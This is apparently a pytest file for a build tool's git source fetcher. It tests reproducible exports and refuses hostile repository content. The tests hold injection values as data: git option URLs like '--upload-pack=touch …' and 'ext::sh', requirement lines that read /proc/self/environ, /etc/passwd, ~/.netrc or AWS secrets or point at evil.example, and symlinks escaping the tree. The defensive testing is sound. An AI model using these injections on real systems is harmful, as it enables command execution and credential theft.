"""The pinned source, against real local git repositories (no Docker)."""

from __future__ import annotations

import os
from pathlib import Path

import git
import pytest

from builder.config.matrix import Source
from builder.errors import SourceError
from builder.source import pinned as source
from builder.source import requirements


@pytest.fixture()
def upstream(tmp_path, monkeypatch):
    monkeypatch.setenv("K3_CACHE_DIR", str(tmp_path / "cache"))
    repo = git.Repo.init(tmp_path / "up", initial_branch="k3")
    (tmp_path / "up" / "req.txt").write_text("-r sub/common.txt\n")
    (tmp_path / "up" / "sub").mkdir()
    (tmp_path / "up" / "sub" / "common.txt").write_text("packaging>=23\n")
    repo.git.add(A=True)
    env = {
        "GIT_AUTHOR_DATE": "2026-01-02T03:04:05+00:00",
        "GIT_COMMITTER_DATE": "2026-01-02T03:04:05+00:00",
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@e.org",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@e.org",
    }
    with repo.git.custom_environment(**env):
        repo.git.commit("-q", "-m", "first")
    return repo


def _src(repo, **kw):
    base = dict(
        url=f"file://{repo.working_dir}", branch="k3", commit=repo.head.commit.hexsha, package="p", version="1.0"
    )
    base.update(kw)
    return Source(**base)


def test_fetch_verifies_and_exports_with_fixed_mtimes(upstream, tmp_path):
    pinned = source.fetch(_src(upstream))
    assert pinned.source_date_epoch == 1767323045
    out = pinned.export(tmp_path / "export")
    assert (out / "sub" / "common.txt").read_text() == "packaging>=23\n"
    assert not (out / ".git").exists()  # an export, never a checkout
    for dirpath, dirnames, filenames in os.walk(out):
        for name in dirnames + filenames:
            assert os.lstat(os.path.join(dirpath, name)).st_mtime == 1767323045


def test_requirement_includes_are_followed_at_the_commit(upstream):
    files = requirements.resolve_includes(source.fetch(_src(upstream)), ("req.txt",))
    assert sorted(files) == ["req.txt", "sub/common.txt"]


def test_missing_branch_is_a_clear_error(upstream):
    with pytest.raises(SourceError, match="branch 'gone' not found"):
        source.fetch(_src(upstream, branch="gone"))


def test_commit_not_on_branch_is_refused(upstream):
    with pytest.raises(SourceError, match="does not exist on refs/heads/k3"):
        source.fetch(_src(upstream, commit="0" * 40))
    upstream.git.checkout("-q", "-b", "side")
    (Path(upstream.working_dir) / "x").write_text("x")
    upstream.git.add(A=True)
    upstream.git.commit("-q", "-m", "side only")
    side = upstream.head.commit.hexsha
    source.fetch(_src(upstream, branch="side", commit=side))  # fetched into the mirror
    with pytest.raises(SourceError, match="is not on refs/heads/k3"):
        source.fetch(_src(upstream, commit=side))


def test_full_ref_names_only(upstream):
    upstream.create_tag("k3-tag")
    with pytest.raises(SourceError, match="not found"):
        source.fetch(_src(upstream, branch="k3-tag"))  # a tag is not a branch


# --- third-party sources ----------------------------------------------------------------------

_ENV = {
    "GIT_AUTHOR_DATE": "2026-02-03T04:05:06+00:00",
    "GIT_COMMITTER_DATE": "2026-02-03T04:05:06+00:00",
    "GIT_AUTHOR_NAME": "t",
    "GIT_AUTHOR_EMAIL": "t@e.org",
    "GIT_COMMITTER_NAME": "t",
    "GIT_COMMITTER_EMAIL": "t@e.org",
}


def _repo(path: Path, files: dict[str, str], gitlinks: dict[str, tuple[str, str]] | None = None) -> git.Repo:
    repo = git.Repo.init(path, initial_branch="main")
    for name, text in files.items():
        (path / name).parent.mkdir(parents=True, exist_ok=True)
        (path / name).write_text(text)
    if gitlinks:
        (path / ".gitmodules").write_text(
            "".join(f'[submodule "{p}"]\n\tpath = {p}\n\turl = {u}\n' for p, (u, _) in gitlinks.items())
        )
    repo.git.add(A=True)
    for p, (_, commit) in (gitlinks or {}).items():
        repo.git.update_index("--add", "--cacheinfo", f"160000,{commit},{p}")
    with repo.git.custom_environment(**_ENV):
        repo.git.commit("-q", "-m", "c")
    return repo


@pytest.fixture()
def third(tmp_path, upstream):
    leaf = _repo(tmp_path / "leaf", {"include/leaf.h": "int leaf;\n"})
    lib = _repo(
        tmp_path / "lib",
        {"src/k.c": "int k;\n"},
        {"deps/leaf": (f"file://{leaf.working_dir}", leaf.head.commit.hexsha)},
    )
    lib.create_tag("v1.0")
    # The main source names the dependency the way vLLM's CMake files do.
    (Path(upstream.working_dir) / "deps.cmake").write_text(f"GIT_TAG {lib.head.commit.hexsha}\n# also v1.0\n")
    upstream.git.add(A=True)
    with upstream.git.custom_environment(**_ENV):
        upstream.git.commit("-q", "-m", "deps")
    return lib, leaf


def _tp(lib, **kw):
    from builder.config.matrix import ThirdParty

    base = dict(
        url=f"file://{lib.working_dir}",
        commit=lib.head.commit.hexsha,
        ref=lib.head.commit.hexsha,
        declared_in="deps.cmake",
        env="LIB_SRC_DIR",
    )
    base.update(kw)
    return ThirdParty(**base)


def test_a_third_party_tree_exports_with_its_submodules(third, upstream, tmp_path):
    lib, leaf = third
    pinned = source.fetch(_src(upstream))
    tp = source.fetch_third_party("lib", _tp(lib), pinned)
    assert [(s.path, s.commit) for s in tp.submodules] == [("deps/leaf", leaf.head.commit.hexsha)]
    out = tp.export(tmp_path / "tp")
    assert (out / "src" / "k.c").exists() and (out / "deps" / "leaf" / "include" / "leaf.h").exists()
    assert {os.lstat(p).st_mtime for p in out.rglob("*")} == {tp.source_date_epoch}
    none = source.fetch_third_party("lib", _tp(lib, submodules="none"), pinned)
    assert none.submodules == ()


def test_a_tag_that_moved_or_a_ref_the_source_no_longer_names_is_refused(third, upstream):
    lib, _ = third
    pinned = source.fetch(_src(upstream))
    first = lib.head.commit.hexsha
    source.fetch_third_party("lib", _tp(lib, ref="v1.0"), pinned)  # the tag points at the pin
    (Path(lib.working_dir) / "src" / "k.c").write_text("int moved;\n")
    lib.git.add(A=True)
    with lib.git.custom_environment(**_ENV):
        lib.git.commit("-q", "-m", "moved")
    lib.git.tag("-f", "v1.0")
    with pytest.raises(SourceError, match=f"'v1.0' points at {lib.head.commit.hexsha}, the matrix pins {first}"):
        source.fetch_third_party("lib", _tp(lib, ref="v1.0", commit=first), pinned)
    with pytest.raises(SourceError, match="no longer names 'v9'"):
        source.fetch_third_party("lib", _tp(lib, ref="v9"), pinned)


def test_relative_submodule_urls_resolve_like_git():
    assert source._relative_url("https://github.com/org/repo.git", "../dep.git") == "https://github.com/org/dep.git"
    assert source._relative_url("file:///srv/git/repo", "../dep") == "file:///srv/git/dep"


def test_git_reason_names_the_fatal_lines():
    exc = git.GitCommandError(
        ["git", "fetch"],
        128,
        stderr=(
            "fatal: detected dubious ownership in repository at '/srv/x'\nTo add an exception, call:\n"
            "\tgit config --global --add safe.directory /srv/x\nfatal: Could not read from remote repository.\n\n"
            "Please make sure you have the correct access rights\nand the repository exists."
        ),
    )
    assert source.git_reason(exc) == (
        "detected dubious ownership in repository at '/srv/x'; Could not read from remote repository."
    )


# --- a tree is untrusted input: its URLs and paths never become git options (issue 21) ----------


def _hostile_lib(tmp_path, url: str, path: str = "evil", leaf_commit: str = "1" * 40) -> git.Repo:
    return _repo(tmp_path / "hostile", {"src/k.c": "int k;\n"}, {path: (url, leaf_commit)})


def _pinned_naming(upstream, lib) -> source.PinnedSource:
    """The main source at a new commit whose deps.cmake names ``lib``'s head (as a re-pin would)."""
    (Path(upstream.working_dir) / "deps.cmake").write_text(f"GIT_TAG {lib.head.commit.hexsha}\n")
    upstream.git.add(A=True)
    with upstream.git.custom_environment(**_ENV):
        upstream.git.commit("-q", "-m", "re-pin")
    return source.fetch(_src(upstream))


def test_a_submodule_url_that_is_a_git_option_runs_no_host_command(third, upstream, tmp_path):
    """The reported attack: `url = --upload-pack=touch /tmp/PWNED` ran the command via git fetch.
    git's fsck (on in every mirror) refuses such a .gitmodules at the fetch already; the URL rule
    behind it is tested on its own below."""
    canary = tmp_path / "PWNED"
    lib = _hostile_lib(tmp_path, f"--upload-pack=touch {canary}")
    with pytest.raises(
        SourceError,
        match=r"third-party source .*: git refused a malformed object \(transfer\.fsckObjects: "
        r"'gitmodulesUrl: disallowed submodule url: --upload-pack=",
    ):
        source.fetch_third_party("lib", _tp(lib), _pinned_naming(upstream, lib))
    assert not canary.exists()


def test_a_nested_hostile_submodule_url_is_refused_with_its_full_path(third, upstream, tmp_path):
    lib_ok, leaf = third
    canary = tmp_path / "PWNED"
    inner = _repo(tmp_path / "inner", {"x.h": "int x;\n"}, {"deep": (f"--upload-pack=touch {canary}", "1" * 40)})
    outer = _repo(
        tmp_path / "outer",
        {"y.h": "int y;\n"},
        {"third/inner": (f"file://{inner.working_dir}", inner.head.commit.hexsha)},
    )
    with pytest.raises(SourceError, match=r"/inner'.*gitmodulesUrl: disallowed submodule url"):
        source.fetch_third_party("lib", _tp(outer), _pinned_naming(upstream, outer))
    assert not canary.exists()


@pytest.mark.parametrize(
    "url",
    [
        "ext::sh -c touch% /tmp/x",
        "https://user:pw@example.org/x.git",
        "ssh://example.org/x",
        "https://example.org/x y",
        "-u",
        "file://x;touch /tmp/x",
    ],
)
def test_a_submodule_url_outside_the_matrix_url_rule_is_refused(url):
    with pytest.raises(SourceError, match="is not an https:// or file:// git URL") as err:
        source._tree_url("lib", "https://example.org/lib.git", "sub", url)
    assert "pw" not in str(err.value)  # a credential in a tree's URL is not printed either


def test_relative_submodule_urls_are_checked_after_resolution():
    assert (
        source._tree_url("lib", "https://example.org/o/lib.git", "s", "../dep.git") == "https://example.org/o/dep.git"
    )
    with pytest.raises(SourceError, match="host path under an https:// source"):
        source._tree_url("lib", "https://example.org/lib.git", "s", "file:///home/me/secret.git")


@pytest.mark.parametrize("path", ["../outside", "a/../../b", "/abs", "a/./../.."])
def test_a_submodule_path_leaving_the_tree_is_one_source_error(path):
    with pytest.raises(SourceError, match="is not a relative path inside the tree"):
        source._tree_url("lib", "https://example.org/lib.git", path, "https://example.org/x.git")


def test_a_submodule_path_with_dotdot_in_a_real_tree_is_refused(third, upstream, tmp_path):
    lib = _repo(tmp_path / "dots", {"a.h": "int a;\n"})
    (Path(lib.working_dir) / ".gitmodules").write_text('[submodule "x"]\n\tpath = ../x\n\turl = ../leaf\n')
    lib.git.add(A=True)
    with lib.git.custom_environment(**_ENV):
        lib.git.commit("-q", "-m", "dots")
    with pytest.raises(SourceError, match=r"submodule '../x'.*not a relative path"):
        source.fetch_third_party("lib", _tp(lib), _pinned_naming(upstream, lib))


# One test per git call site: an option-looking argument stays a positional (a path, a revision).


def test_fetch_by_commit_treats_an_option_url_as_a_path(tmp_path, monkeypatch):
    monkeypatch.setenv("K3_CACHE_DIR", str(tmp_path / "cache"))
    canary = tmp_path / "PWNED"
    with pytest.raises(SourceError, match="cannot be fetched"):
        source._commit_repo(f"--upload-pack=touch {canary}", "1" * 40)
    assert not canary.exists()


def test_ls_remote_treats_an_option_url_as_a_path(tmp_path):
    canary = tmp_path / "PWNED"
    with pytest.raises(SourceError, match="cannot resolve 'v1'"):
        source._peeled_ref(f"--upload-pack=touch {canary}", "v1")
    assert not canary.exists()


def test_the_tree_listing_treats_an_option_revision_as_a_revision(upstream, tmp_path):
    from builder.source import export

    out = tmp_path / "written"
    with pytest.raises(SourceError, match="git ls-tree failed"):
        export.list_tree(upstream, f"--output={out}", "source tree")
    assert not out.exists()


def test_cat_file_rev_parse_and_merge_base_take_no_options_from_arguments(upstream):
    assert source._has_commit(upstream, "--batch") is False
    assert source._is_ancestor(upstream, "--all", upstream.head.commit.hexsha) is False
    with pytest.raises(git.GitCommandError):
        upstream.git.rev_parse("--verify", "--end-of-options", "--git-dir")  # what fetch() runs


def test_gitmodules_values_with_newlines_cannot_forge_entries(tmp_path):
    lib = _repo(tmp_path / "nl", {"a.h": "x\n"})
    (Path(lib.working_dir) / ".gitmodules").write_text(
        '[submodule "x"]\n\tpath = a\n\turl = "https://example.org/a\\nsubmodule.y.url=--upload-pack=id"\n'
    )
    lib.git.add(A=True)
    with lib.git.custom_environment(**_ENV):
        lib.git.commit("-q", "-m", "nl")
    entries = source._gitmodules(lib, lib.head.commit.hexsha)
    assert len(entries) == 1 and entries[0]["url"].startswith("https://example.org/a\n")


def test_every_git_command_ends_its_options_before_a_positional(third, upstream, tmp_path, monkeypatch):
    """Spy on every git command fetch, third-party fetch and export run: any word that is not an
    option comes after `--` or `--end-of-options` (so no value can ever be read as an option)."""
    seen: list[list[str]] = []
    real = git.cmd.Git.execute

    def spy(self, command, *args, **kwargs):
        seen.append([str(c) for c in command])
        return real(self, command, *args, **kwargs)

    monkeypatch.setattr(git.cmd.Git, "execute", spy)
    lib, _ = third
    lib.create_tag("v2.0")
    (Path(upstream.working_dir) / "deps.cmake").write_text(f"GIT_TAG {lib.head.commit.hexsha}\n# also v2.0\n")
    upstream.git.add(A=True)
    with upstream.git.custom_environment(**_ENV):
        upstream.git.commit("-q", "-m", "tag")
    pinned = source.fetch(_src(upstream))
    pinned.export(tmp_path / "main")
    source.fetch_third_party("lib", _tp(lib, ref="v2.0"), pinned).export(tmp_path / "tp")
    ours = [
        c
        for c in seen
        if c[0] == "git"
        and len(c) > 1
        and c[1] in ("fetch", "ls-remote", "archive", "cat-file", "ls-tree", "config", "rev-parse", "merge-base")
    ]
    assert {c[1] for c in ours} >= {"fetch", "ls-remote", "cat-file", "ls-tree", "config", "rev-parse"}
    assert "archive" not in {c[1] for c in ours}  # the export reads objects, never git archive's output
    for cmd in ours:
        words = cmd[2:]
        first_positional = next((i for i, w in enumerate(words) if not w.startswith("-")), None)
        if first_positional is None or cmd[1] == "cat-file" and "--batch-check" in words:
            continue
        assert {"--", "--end-of-options"} & set(words[:first_positional]), cmd


# --- requirement files: every spelling pip and uv accept, nothing outside the tree --------------


@pytest.mark.parametrize(
    "line",
    [
        "--requirement=/proc/self/environ",
        "-r/proc/self/environ",
        "-r=/proc/self/environ",
        "-r /etc/passwd",
        "--requirement /etc/passwd",
        "-c/etc/passwd",
        "--constraint=/etc/passwd",
        "-c ~/.netrc",
        "-r https://evil.example/r.txt",
        "-r file:///etc/passwd",
        "-r ../../outside.txt",
        "-r \\\n  /etc/passwd",
        "-e .",
        "--editable=/home/me/pkg",
        "-e git+https://evil.example/x",
        "-f /tmp/wheels",
        "--find-links=file:///x",
        "-i file:///srv/index",
        "--index-url=/srv/simple",
        "--extra-index-url ${HOME}",
        "--trusted-host a/b",
        "--pre",
        "--prefer-binary",
        "-Z",
        "--requir=x.txt",
        "--extra-index=https://x",
        "--config-settings=a=b",
        "pkg @ file:///etc/passwd",
        "pkg@https://evil.example/p.whl",
        "/etc/passwd",
        "./local/pkg",
        "pkg.whl",
        "foo==${AWS_SECRET_ACCESS_KEY}",
        "foo==1 --global-option=--x",
        "https://evil.example/x.tar.gz",
    ],
)
def test_a_requirement_line_that_reaches_outside_the_tree_is_refused_with_file_and_line(line):
    data = f"packaging>=23\n# fine\n{line}\n".encode()
    with pytest.raises(SourceError, match=r"^source requirement file req/x\.txt:3: .*refused") as err:
        requirements.requirement_lines("req/x.txt", data)
    assert "\n" not in str(err.value)


def test_every_include_spelling_is_followed_and_index_options_are_kept_apart():
    data = (
        b"-ra.txt\n-r=b.txt\n-r c.txt\n--requirement=d.txt\n--requirement e.txt\n-cf.txt\n--constraint=g.txt\n"
        b"--extra-index-url https://flashinfer.ai/whl/\n-ihttps://x.example/simple\n--trusted-host x.example\n"
        b"--no-index\nnumba == 0.65.0 # comment\nsix>=1.16.0; python_version > '3.11'\nfoo[a,b] >= 1, < 2 \\\n"
        b"  ; sys_platform == 'linux'\npkg==1 --hash=sha256:" + b"0" * 64 + b"\n"
    )
    lines = requirements.requirement_lines("x.txt", data)
    assert [ln.value for ln in lines if ln.kind == "include"] == [f"{c}.txt" for c in "abcdefg"]
    assert [ln.lineno for ln in lines if ln.kind == "index"] == [8, 9, 10, 11]
    req = [ln for ln in lines if ln.kind == "requirement"]
    assert [(ln.lineno, ln.last) for ln in req] == [(12, 12), (13, 13), (14, 15), (16, 16)]


def test_includes_in_every_spelling_are_read_and_checked(upstream):
    work = Path(upstream.working_dir)
    (work / "req.txt").write_text("--requirement=sub/common.txt\n-csub/pins.txt\n")
    (work / "sub" / "pins.txt").write_text("packaging<30\n-r=../req.txt\n")
    (work / "evil.txt").write_text("-r sub/common.txt\n--requirement=/proc/self/environ\n")
    upstream.git.add(A=True)
    with upstream.git.custom_environment(**_ENV):
        upstream.git.commit("-q", "-m", "spellings")
    pinned = source.fetch(_src(upstream))
    assert sorted(requirements.resolve_includes(pinned, ("req.txt",))) == ["req.txt", "sub/common.txt", "sub/pins.txt"]
    with pytest.raises(SourceError, match=r"evil\.txt:2: --requirement '/proc/self/environ' points outside"):
        requirements.resolve_includes(pinned, ("evil.txt",))


# --- commit time: SOURCE_DATE_EPOCH from the future ---------------------------------------------


def test_a_commit_dated_2100_is_refused_in_one_line(upstream):
    """Every mtime in the context would be newer than the clock: ninja failed "manifest still dirty
    after 100 tries" (issue 21). Refused at the fetch, naming the source."""
    (Path(upstream.working_dir) / "x").write_text("x")
    upstream.git.add(A=True)
    with upstream.git.custom_environment(**{**_ENV, "GIT_COMMITTER_DATE": "@4102444800 +0000"}):
        upstream.git.commit("-q", "-m", "from the future")
    with pytest.raises(
        SourceError,
        match=r"at [0-9a-f]{12}: the commit is dated 2100-01-01T00:00:00Z, ahead of "
        r"this host's clock .* by more than 300s; refused",
    ) as err:
        source.fetch(_src(upstream))
    assert "\n" not in err.value.message


def test_a_clock_a_little_behind_the_commit_is_warned_about(monkeypatch):
    from builder import log

    warned = []
    monkeypatch.setattr(log, "warn", warned.append)
    assert source.commit_time("source x", 1_000_060, now=1_000_000) == 1_000_060
    assert warned and "60s ahead of this host's clock" in warned[0] and "is the clock behind?" in warned[0]
    warned.clear()
    assert source.commit_time("source x", 999_000, now=1_000_000) == 999_000 and not warned
    with pytest.raises(SourceError, match="by more than 300s"):
        source.commit_time("source x", 1_000_301, now=1_000_000)


@pytest.mark.parametrize(
    "links", [{"evil": "/etc/passwd"}, {"up": "../../../../etc/passwd"}, {"a": "b", "b": "a"}, {"d/self": "../d/self"}]
)
def test_a_hostile_symlink_in_the_source_is_one_source_error(upstream, tmp_path, links):
    """Absolute and escaping links and a link loop were tracebacks (issue 21, defect 5); now one
    SourceError, nothing outside written (each is judged on the tree's listing, builder/source/export.py)."""
    work = Path(upstream.working_dir)
    for name, target in links.items():
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, work / name)
    (work / "d").mkdir(exist_ok=True)
    (work / "d" / "f").write_text("x")
    upstream.git.add(A=True)
    with upstream.git.custom_environment(**_ENV):
        upstream.git.commit("-q", "-m", "links")
    pinned = source.fetch(_src(upstream))
    try:
        pinned.export(tmp_path / "out")
    except SourceError as exc:
        assert "\n" not in exc.message and "source tree" in exc.message and "refused" in exc.message
    else:  # a loop inside the tree is only a dangling pair of links: harmless, and it stays inside
        assert all(
            os.path.realpath(p).startswith(str(tmp_path / "out")) or not os.path.exists(p)
            for p in (tmp_path / "out").rglob("*")
        )
    assert not (tmp_path / "passwd").exists()


def test_a_full_cache_disk_is_resource_exhaustion_not_bad_input(upstream, tmp_path, monkeypatch):
    """git fetching into a full K3_CACHE_DIR said exit 2 "bad input" (issue 21, defect 5)."""
    import subprocess

    from builder.errors import HostResources, failure_kind

    assert failure_kind("fatal: write error: No space left on device", SourceError) is HostResources
    assert failure_kind("error: unable to create file x: Read-only file system", SourceError) is HostResources
    assert (
        failure_kind("fatal: unable to access 'https://x/': Could not resolve host: x", SourceError).__name__
        == "Unreachable"
    )
    assert failure_kind("fatal: not a git repository", SourceError) is SourceError
    (Path(upstream.working_dir) / "big.bin").write_bytes(os.urandom(3 << 20))  # incompressible
    upstream.git.add(A=True)
    with upstream.git.custom_environment(**_ENV):
        upstream.git.commit("-q", "-m", "big")
    cache = tmp_path / "tiny"
    cache.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(cache)], capture_output=True).returncode:
        pytest.skip("mounting a tmpfs needs privileges")
    try:
        monkeypatch.setenv("K3_CACHE_DIR", str(cache))
        with pytest.raises(HostResources) as err:
            source.fetch(_src(upstream))
        assert err.value.exit_code == 74 and "\n" not in err.value.message
    finally:
        subprocess.run(["umount", str(cache)], capture_output=True)


def test_the_archive_is_streamed_not_held_in_memory(upstream, tmp_path):
    """A 200 MB file made `git archive` cost about twice its size in RAM (MemoryError under a
    limit, issue 21): the export's peak memory now stays far below the file's size. 64 MiB is
    enough to tell: an export that held the blob grew this process by 52 MiB, a streamed one by 0."""
    import subprocess
    import sys

    large = 64 << 20
    with (Path(upstream.working_dir) / "large.bin").open("wb") as fh:
        fh.truncate(large)  # zeros: tiny in git, 64 MiB in the export
    upstream.git.add(A=True)
    with upstream.git.custom_environment(**_ENV):
        upstream.git.commit("-q", "-m", "large")
    script = (
        "import resource, sys; from builder.source import pinned as source; from builder.config.matrix import Source\n"
        f"pinned = source.fetch(Source(url='file://{upstream.working_dir}', branch='k3', "
        f"commit='{upstream.head.commit.hexsha}', package='p', version='1.0'))\n"
        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        f"pinned.export(__import__('pathlib').Path('{tmp_path / 'out'}'))\n"
        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)\n"
    )
    env = {**os.environ, "K3_CACHE_DIR": str(tmp_path / "cache")}
    grown_kib = int(
        subprocess.run(
            [sys.executable, "-c", script],
            env=env,
            capture_output=True,
            text=True,
            check=True,
            cwd=Path(source.__file__).parents[1],
        ).stdout.split()[-1]
    )
    size = (tmp_path / "out" / "large.bin").stat().st_size
    (tmp_path / "out" / "large.bin").unlink()  # not kept among pytest's last runs
    assert size == large
    assert grown_kib < large // 4 // 1024, f"the export grew the process by {grown_kib // 1024} MiB"


def test_the_export_names_its_commit_for_setuptools_scm_and_replaces_any_archival_file(upstream, tmp_path):
    # Without VCS metadata setuptools-scm's file finder lists nothing and a wheel built from the
    # export drops its package data; .git_archival.txt with the node makes it list every file.
    (Path(upstream.working_dir) / ".git_archival.txt").write_text("node: $Format:%H$\n")
    upstream.git.add(A=True)
    with upstream.git.custom_environment(**_ENV):
        upstream.git.commit("-q", "-m", "archival")
    pinned = source.fetch(_src(upstream))
    out = pinned.export(tmp_path / "export")
    assert (out / ".git_archival.txt").read_text() == f"node: {pinned.commit}\n"
    assert os.lstat(out / ".git_archival.txt").st_mtime == pinned.source_date_epoch


def test_files_under_a_directory_come_with_their_execute_bit(upstream):
    root = Path(upstream.working_dir)
    (root / "p" / "utils").mkdir(parents=True)
    (root / "p" / "__init__.py").write_text("")
    (root / "p" / "utils" / "wrap.sh").write_text("#!/bin/sh\n")
    (root / "p" / "utils" / "wrap.sh").chmod(0o755)
    os.symlink("wrap.sh", root / "p" / "utils" / "link.sh")
    upstream.git.add(A=True)
    with upstream.git.custom_environment(**_ENV):
        upstream.git.commit("-q", "-m", "package")
    pinned = source.fetch(_src(upstream))
    assert pinned.files_under("p") == {"p/__init__.py": False, "p/utils/wrap.sh": True}
    assert pinned.files_under("absent") == {} and pinned.files_under("p/__init__.py") == {}
